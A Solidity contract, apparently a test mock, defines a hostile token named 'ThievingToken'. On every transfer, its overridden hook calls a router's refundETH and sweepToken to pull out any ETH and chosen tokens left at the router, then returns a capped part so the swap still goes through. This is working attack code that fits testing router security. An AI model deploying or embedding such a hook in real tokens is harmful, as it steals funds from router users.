// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import "../../../lib/devnet/evm/contracts/Token.sol";

interface RouterFunds {
    function refundETH() external payable;
    function sweepToken(address token, uint256 least, address recipient) external payable;
}

interface Asset {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// Takes in each transfer all that lies at a router. It may put back a part, so that the swap goes on.
contract ThievingToken is Token {
    address private router;
    address[] private wanted;
    uint256 private mostReturned;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply)
        Token(name_, symbol_, decimals_, supply)
    {}

    receive() external payable {}

    function steal(address router_, address[] calldata wanted_, uint256 mostReturned_) external {
        (router, wanted, mostReturned) = (router_, wanted_, mostReturned_);
    }

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        if (router == address(0)) return;
        RouterFunds(router).refundETH();
        for (uint256 index = 0; index < wanted.length; index++) {
            Asset asset = Asset(wanted[index]);
            uint256 before = asset.balanceOf(address(this));
            RouterFunds(router).sweepToken(wanted[index], 0, address(this));
            uint256 taken = asset.balanceOf(address(this)) - before;
            uint256 returned = taken < mostReturned ? taken : mostReturned;
            if (returned > 0) asset.transfer(router, returned);
        }
    }
}
